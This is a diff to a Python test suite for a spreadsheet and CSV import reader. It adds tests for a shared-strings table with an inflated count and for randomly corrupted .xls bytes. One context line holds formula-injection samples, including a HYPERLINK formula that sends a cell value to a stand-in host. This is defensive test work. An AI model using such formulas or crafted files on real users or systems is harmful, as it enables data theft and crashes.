@@ -1,6 +1,7 @@
 """Files that must be refused with a clear word, and odd ones that must still be read."""
 
 import io
+import random
 import zipfile
 from pathlib import Path
 from typing import Any
@@ -56,7 +57,7 @@ def test_formulas_are_plain_text(shared: Path, import_file: Any, rows: Any) -> N
     assert {'=HYPERLINK("http://example.invalid/?x="&B3,"点击")', "-2+3+cmd"} <= names
 
 
-def package(sheet: str) -> bytes:
+def package(sheet: str, extra: dict[str, str] | None = None) -> bytes:
     """The smallest .xlsx around one worksheet."""
     main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
     office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
@@ -70,7 +71,7 @@ def package(sheet: str) -> bytes:
     }
     target = io.BytesIO()
     with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
-        for name, text in parts.items():
+        for name, text in {**parts, **(extra or {})}.items():
             archive.writestr(name, text)
     return target.getvalue()
 
@@ -122,3 +123,25 @@ def test_text_encodings_and_delimiters(encoding: str, delimiter: str) -> None:
     lines = [["企业名称", "检验结论"], ["永嘉甲阀门厂", "合格"], ["永嘉乙，丙阀门厂", "不合格"]]
     content = "\r\n".join(delimiter.join(line) for line in lines).encode(encoding)
     assert read(content, "a.csv").sheets[0].rows == lines
+
+
+def test_claimed_number_of_texts_is_not_believed() -> None:
+    """Found by us: the reader asks for memory by the claim and ends the process."""
+    sheet = '<sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData>'
+    texts = '<sst count="1" uniqueCount="99999999999"><si><t>一</t></si></sst>'
+    with pytest.raises(FileRefusedError) as refused:
+        read(package(sheet, {"xl/sharedStrings.xml": texts}), "a.xlsx")
+    assert refused.value.code == "corrupt"
+
+
+def test_damaged_xls_never_ends_the_process(shared: Path) -> None:
+    """60 files with damaged bytes; some of them abort the reader's own process."""
+    content = (shared / "inputs/national/aqsiq_2014_valves.xls").read_bytes()
+    chance = random.Random(75)
+    for _ in range(60):
+        damaged = bytearray(content)
+        for _ in range(chance.choice([1, 20, 200])):
+            damaged[chance.randrange(len(damaged))] = chance.randrange(256)
+        preview = prepare(bytes(damaged), "名单.xls")
+        if preview.refusal is not None:
+            assert "请" in preview.refusal.message
